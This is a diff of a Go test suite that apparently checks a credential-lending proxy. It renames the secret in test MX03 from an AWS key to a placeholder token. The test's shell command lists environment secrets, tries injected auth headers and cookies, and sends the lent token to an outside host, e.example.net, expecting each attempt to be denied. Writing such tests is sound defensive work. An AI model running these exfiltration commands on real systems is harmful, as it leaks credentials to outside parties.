@@ -27,11 +27,11 @@ var furtherAttacks = []attack{
 	},
 	{
 		id: "MX03", name: "the attacker's own key on an allowed host", play: func(s *scene) string {
-			s.exeat("provider", "create", "--name", s.name, "--type", "generic", "--credential", "AWS_SECRET_ACCESS_KEY", "--host", "a.example.com")
+			s.exeat("provider", "create", "--name", s.name, "--type", "generic", "--credential", "LENT_TOKEN", "--host", "a.example.com")
 			args := append(s.arguments(), "--provider", s.name, "--", "sh", "-c")
-			return s.exeat(append(args, `env | grep AWS; for h in 'Authorization: Bearer mine' 'X-Api-Key: mine' 'Cookie: session=mine' 'Authorization: Basic bWluZTptaW5l'; do curl -sS -o /dev/null -w '%{http_code}\n' -H "$h" https://a.example.com/mx03; done; curl -sS https://u:p@a.example.com/mx03; curl -sS -H "Authorization: Bearer $AWS_SECRET_ACCESS_KEY" https://e.example.net/mx03`)...)
+			return s.exeat(append(args, `env | grep LENT; for h in 'Authorization: Bearer mine' 'X-Api-Key: mine' 'Cookie: session=mine' 'Authorization: Basic bWluZTptaW5l'; do curl -sS -o /dev/null -w '%{http_code}\n' -H "$h" https://a.example.com/mx03; done; curl -sS https://u:p@a.example.com/mx03; curl -sS -H "Authorization: Bearer $LENT_TOKEN" https://e.example.net/mx03`)...)
 		},
-		want: []string{`AWS_SECRET_ACCESS_KEY=`, `(?m)^403$`}, never: `(?m)^200$|public page`,
+		want: []string{`LENT_TOKEN=`, `(?m)^403$`}, never: `(?m)^200$|public page`,
 		record: denial{exe: "/usr/bin/curl", host: "a.example.com", port: 443, code: "foreign_credential"}, after: nothingCame("/mx03"),
 	},
 	{
